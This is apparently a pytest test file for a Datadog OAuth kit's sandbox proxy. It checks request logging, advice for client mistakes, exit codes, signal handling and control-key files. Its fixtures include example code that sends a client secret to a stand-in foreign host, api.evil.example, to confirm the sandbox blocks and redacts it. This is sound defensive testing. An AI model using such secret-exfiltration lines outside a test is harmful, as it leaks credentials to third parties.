"""`ddoauth sandbox -- COMMAND` brings an unchanged program to the sandbox, over real sockets."""

from __future__ import annotations

import json
import os
import shlex
import signal
import ssl
import stat
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from shutil import which
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import httpx
import psutil
import pytest
from support.front import SECRET, clean_environment, program
from support.visitors import Person
from support.waiting import until

from ddoauth_kit.cli import main
from ddoauth_kit.commands.login import live_client
from ddoauth_kit.oauth.callback.addresses import registered_address
from ddoauth_kit.sandbox import Sandbox

if TYPE_CHECKING:
    from collections.abc import Iterator
    from io import FileIO

KIT = [sys.executable, "-m", "ddoauth_kit", "sandbox"]
CALLS = """
import httpx, sys
client = httpx.Client()
form = {"grant_type": "authorization_code", "code": "made-up", "client_id": "made-up"}
told = client.post("https://api.datadoghq.com/api/v2/oauth2/token", data=form)
valid = client.get("https://api.datadoghq.eu/api/v1/validate", headers={"DD-API-KEY": "made-up"})
form = {"client_secret": sys.argv[1], "code": "made-up"}
leak = client.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form)
print(told.status_code, valid.status_code, leak.status_code)
"""
# What a client does wrong, each in a connection of its own, at the proxy that it finds set.
MISTAKES = """
import os, socket, ssl
from contextlib import suppress
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
def to_proxy(text):
    link = socket.create_connection((proxy.hostname, proxy.port), 20)
    link.sendall(text.encode() + b"\\r\\nHost: x\\r\\n\\r\\n")
    return link
def until_end(link):
    with suppress(ConnectionResetError):
        while link.recv(9999):
            pass
tunnel = "CONNECT api.datadoghq.com:443 HTTP/1.1"
pinned = to_proxy(tunnel)
pinned.recv(999)
with suppress(ssl.SSLError):
    ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(pinned, server_hostname="api.datadoghq.com")
http2 = to_proxy(tunnel)
http2.recv(999)
http2.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
until_end(http2)
for last in (to_proxy("CONNECT 93.184.216.34:443 HTTP/1.1"),
             to_proxy("GET http://api.datadoghq.com/ HTTP/1.1")):
    last.shutdown(socket.SHUT_WR)
    until_end(last)
"""
TOLD = (
    ("did not accept this run's certificate", "Turn off certificate pinning for this run"),
    ("The client used HTTP/2 with api.datadoghq.com", "turn off HTTP/2 in the client."),
    ("asked for the IP address 93.184.216.34", "or start again with --allow 93.184.216.34."),
    ("used plain http", "Use https://api.datadoghq.com in your server."),
)
WAITS = """
import subprocess, sys, time
print(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]).pid, flush=True)
time.sleep(60)
"""


def _sandbox(
    *arguments: str, environment: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run the command as a person does, without the tester's own proxies and trust settings."""
    return subprocess.run(
        [*KIT, *arguments],
        env=environment or clean_environment(),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def _python(code: str, *arguments: str) -> list[str]:
    return ["--", sys.executable, "-c", code, *arguments]


@pytest.fixture(scope="module")
def called() -> subprocess.CompletedProcess[str]:
    """Run a program that knows only Datadog's addresses, and sends a secret elsewhere, too."""
    return _sandbox(*_python(CALLS, SECRET))


def test_an_unchanged_program_arrives_in_the_sandbox(
    called: subprocess.CompletedProcess[str],
) -> None:
    """Datadog's addresses stay written in; each call is a line on stderr, with the reason."""
    assert (called.returncode, called.stdout) == (0, "400 403 403\n"), called.stderr
    lines = called.stderr.splitlines()
    refused = "POST api.datadoghq.com/api/v2/oauth2/token 400"
    assert f"{refused} This site does not know the client_id." in lines
    reason = "The API key is wrong, revoked, or from another site."
    assert f"GET api.datadoghq.eu/api/v1/validate 403 {reason}" in lines


def test_a_secret_does_not_leave_for_a_foreign_host(
    called: subprocess.CompletedProcess[str],
) -> None:
    """The answer is 403, and the line names the host and the fields, and no value."""
    assert called.stdout.endswith(" 403\n")
    (line,) = (line for line in called.stderr.splitlines() if "evil" in line)
    assert line.startswith("POST api.evil.example/token 403 refused: ")
    assert line.endswith("The client had sent: client_secret, code in the body; hint in the URL.")
    assert SECRET not in called.stderr


def test_what_a_client_does_wrong_is_one_line_each() -> None:
    """The line says what happened and what to do; so does one for a proxy that was set before."""
    environment = clean_environment() | {"HTTPS_PROXY": "http://proxy.example:3128"}
    done = _sandbox(*_python(MISTAKES), environment=environment)
    assert (done.returncode, done.stdout) == (0, ""), done.stderr
    lines = [line for line in done.stderr.splitlines() if " refused: " in line]
    assert len(lines) == len(TOLD)
    for what, advice in TOLD:
        (line,) = (line for line in lines if what in line)
        assert advice in line
    assert done.stderr.count("note: A proxy is already configured.") == 1


def test_the_exit_code_is_the_commands() -> None:
    """The shell sees the command's exit code, and stdout contains only the command's bytes."""
    done = _sandbox(*_python("import sys; print('only this', end=''); sys.exit(7)"))
    assert (done.returncode, done.stdout) == (7, "only this")


def test_the_first_lines_say_what_there_is(called: subprocess.CompletedProcess[str]) -> None:
    """Before the command's calls: who bypasses the front, addresses, client, and how to stop."""
    said = called.stderr
    assert said.startswith("note: Clients that ignore these variables")
    names = [line.split("  ")[0] for line in said.splitlines()[1:]]
    assert names[:4] == ["sandbox", "front", "CA", "client"]
    assert names[4].startswith("redirect URI")
    assert names[5:8] == ["live view", "control", "stop"]
    assert "sandbox-secret" not in said


@pytest.mark.skipif(os.name != "posix", reason="process groups are POSIX")
def test_ctrl_c_ends_the_whole_group() -> None:
    """SIGINT reaches the command and its children, and the exit code shows the signal."""
    with _started(*_python(WAITS)) as process:
        assert process.stdout is not None
        grandchild = psutil.Process(int(process.stdout.readline()))
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) in {1, 130}
    until(lambda: not _runs(grandchild))


def _runs(process: psutil.Process) -> bool:
    """Return whether a process lives; what has ended may wait for a parent to notice."""
    with suppress(psutil.NoSuchProcess):
        return process.status() != psutil.STATUS_ZOMBIE
    return False


def _started(*arguments: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*KIT, *arguments],
        env=clean_environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--", "no-such-server"], "no-such-server was not found."),
        (["--allow", "api.datadoghq.com", "--", "true"], "one of Datadog's hosts"),
        (["--allow", "a b", "--", "true"], "is not a host for --allow"),
        (["--allow", "shop.example"], "--allow needs a command or --env"),
        (["--env", "--", "true"], "Leave out the command"),
        (["--isolate"], "--isolate needs a command"),
        (["--isolate", "--allow", "shop.example", "--", "true"], "Leave out --allow"),
        (["--isolate", "--open", "--", "true"], "Leave out one of them"),
        (["--isolate", "--forward", "0", "--", "true"], "a port from 1 to 65535"),
        (["--forward", "5432", "--", "true"], "--forward needs --isolate"),
        (["--open"], "--open needs a command or --env"),
    ],
)
def test_what_cannot_start_is_one_line(
    arguments: list[str], words: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The line says what to do, nothing is on stdout, and the exit code is 2."""
    assert main(["sandbox", *arguments]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert words in said.err
    assert len(said.err.splitlines()) == 1


def test_without_trustme_the_line_names_the_extra(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A kit without certificates says how to get them."""
    monkeypatch.setitem(sys.modules, "trustme", None)
    assert main(["sandbox", "--", "true"]) == 2
    assert "pip install 'ddoauth-kit[grade]'" in capsys.readouterr().err


def test_variables_for_another_shell(tmp_path: Path) -> None:
    """`--env` prints exports that point a shell's programs at the sandbox until Ctrl-C."""
    bash, curl = program("bash"), program("curl")
    with _started("--env") as process:
        lines = "".join(_exports(process))
        (tmp_path / "front.env").write_text(lines)
        told = subprocess.run(
            [bash, "-c", f". ./front.env; {curl} -s https://api.datadoghq.com/api/v1/validate"],
            cwd=tmp_path,
            env=clean_environment(),
            capture_output=True,
            text=True,
            timeout=30,
            check=True,
        )
        assert json.loads(told.stdout) == {"errors": ["API key required"]}
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0


def _exports(process: subprocess.Popen[str]) -> Iterator[str]:
    """Read up to the last variable in the alphabet, which is written last."""
    assert process.stdout is not None
    for line in process.stdout:
        yield line
        if line.startswith("export no_proxy="):
            break


def test_a_command_that_calls_past_the_front_is_warned_of() -> None:
    """If no call follows the customer's decision for seconds, a line names the likely variable."""
    with _started(*_python("import time; time.sleep(60)")) as process:
        assert process.stderr is not None
        told: dict[str, str] = {}
        for line in process.stderr:
            name, _, value = line.strip().partition(" ")
            told[name] = value.strip()
            if name == "stop":
                break
        _agree(told["sandbox"], client_id=told["client"].split()[0])
        shown = [process.stderr.readline() for _ in range(3)]
        process.send_signal(signal.SIGINT)
    assert [line.split()[0] for line in shown[:2]] == ["GET", "POST"], "the customer's own requests"
    warning = shown[2]
    assert warning.startswith("warning: The customer responded on Datadog's page 5 seconds ago")
    assert "does not get HTTPS_PROXY" in warning
    assert "trust_env" in warning


def _agree(sandbox: str, *, client_id: str) -> None:
    """Be the customer's browser: open the page, and press the button."""
    place = f"{sandbox}/us1/app/oauth2/v1/authorize"
    asked = {
        "response_type": "code",
        "client_id": client_id,
        "redirect_uri": "http://127.0.0.1:8484/oauth/callback",
        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        "code_challenge_method": "S256",
        "state": "the-state",
    }
    ended = Person().decide(str(httpx.URL(place, params=asked)))
    assert "code" in parse_qs(urlsplit(ended).query)


def test_in_a_pipe_it_names_the_control_key_file() -> None:
    """One line of JSON; the key is in a file of this user's, which is gone at the end."""
    with _started("--token-lifetime", "5") as process:
        assert process.stdout is not None
        line = process.stdout.readline()
        said = json.loads(line)
        file = Path(said["control"]["key_file"])
        key = file.read_text()
        assert key not in line
        if os.name == "posix":
            assert stat.S_IMODE(file.stat().st_mode) == 0o600
            assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
        headers = {"X-Sandbox-Key": key}
        url = f"{said['control']['url']}/journal"
        assert httpx.get(url, headers=headers, trust_env=False).json() == {"entries": [], "last": 0}
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0
        assert process.stdout.read() == ""
    assert not file.parent.exists()


def test_in_a_pipe_it_names_the_front_and_what_to_type() -> None:
    """A program reaches Datadog's names with proxy and CA; a person reads what a login needs."""
    with _started() as process:
        assert process.stdout is not None
        said = json.loads(process.stdout.readline())
        ca_file = Path(said["ca_file"])
        trusted = ssl.create_default_context(cafile=str(ca_file))
        with httpx.Client(proxy=said["proxy"], verify=trusted, trust_env=False) as client:
            assert client.get("https://api.us3.datadoghq.com/api/v1/validate").status_code == 403
            foreign = client.post("https://api.evil.example/", data={"client_secret": SECRET})
        assert foreign.status_code == 403
        process.send_signal(signal.SIGINT)
        _, lines = process.communicate(timeout=60)
    assert process.returncode == 0
    assert "The client had sent: client_secret in the body." in lines
    assert SECRET not in lines
    assert not ca_file.parent.exists()
    to_type = [line for line in lines.splitlines() if "api.evil.example" not in line][:7]
    assert f"export DDOAUTH_CLIENT_ID={said['client']['client_id']}" in to_type
    own = to_type[-1].strip().removesuffix(" login")
    assert which(own), "a shell finds it as it stands there"


def test_without_trustme_the_line_names_no_front(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A kit without the extra `grade` serves the sandbox as before."""
    monkeypatch.setitem(sys.modules, "trustme", None)
    monkeypatch.setattr(Sandbox, "serve_forever", lambda _, announce: announce())
    assert main(["sandbox"]) == 0
    assert {"sites", "client", "control"} == set(json.loads(capsys.readouterr().out))


@pytest.mark.skipif(os.name != "posix", reason="pseudo-terminals are POSIX")
def test_on_a_terminal_it_speaks_to_a_person() -> None:
    """Addresses, client and how to stop come first, then a line a request, with the reason."""
    ours, theirs = os.openpty()
    with subprocess.Popen(
        KIT, env=clean_environment(), stdout=theirs, stderr=theirs, stdin=subprocess.DEVNULL
    ) as process:
        os.close(theirs)
        with os.fdopen(ours, "rb", buffering=0) as terminal:
            told = _summary(terminal)
            assert told["pages"].endswith("/us1/app/integrations")
            assert told["redirect URI"].startswith("http://127.0.0.1:8484/oauth/callback")
            assert told["stop"] == "Ctrl-C"
            assert _redirect_uri_of(told) in told["redirect URI"]
            assert not any(value.startswith("{") for value in told.values())
            secret = told["secret"].split()[0]
            refused = httpx.post(
                f"{told['API']}/api/v2/oauth2/token",
                data={"code": "made-up"},
                auth=(told["client"], secret),
                trust_env=False,
            )
            assert refused.status_code == 401
            reason = "The secret was sent with HTTP Basic; Datadog's pages show it in the body."
            assert _line(terminal) == f"POST /us1/api/api/v2/oauth2/token 401 {reason}"
            live = httpx.get(told["live view"].split()[0], trust_env=False)
            assert live.status_code == 303
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0


def _redirect_uri_of(told: dict[str, str]) -> str:
    """Return where `ddoauth login` listens with the variables that the printed lines set."""
    lines = [shlex.split(line) for line in told["log in"].splitlines()[1:]]
    own, command = lines[-1]
    assert which(own), "a shell finds it as it stands there"
    assert command == "login"
    with pytest.MonkeyPatch.context() as patch:
        for _, setting in lines[:-1]:
            patch.setenv(*setting.split("=", 1))
        return registered_address(live_client("us1", client="").registration).urls.redirect_uri


def _summary(terminal: FileIO) -> dict[str, str]:
    found: dict[str, str] = {}
    name = ""
    while "stop" not in found:
        line = _line(terminal)
        begun = line[:13].strip()
        name = begun or name
        found[name] = line[13:] if begun else f"{found[name]}\n{line[13:]}"
    return found


def _line(terminal: FileIO) -> str:
    """Read a line byte by byte, so that nothing waits in a buffer."""
    line = b""
    while not line.endswith(b"\n"):
        line += terminal.read(1) or b""
    return line.decode().rstrip()
